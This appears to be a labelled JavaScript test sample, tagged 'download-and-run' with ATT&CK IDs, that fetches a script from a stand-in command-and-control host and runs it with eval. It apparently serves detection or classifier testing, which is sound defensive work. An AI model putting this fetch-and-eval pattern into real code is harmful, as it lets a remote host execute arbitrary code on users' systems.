// expect: download-and-run | source: T1105, T1059.007
fetch("https://c2.example.invalid/a.js")
  .then((answer) => answer.text())
  .then((text) => eval(text));
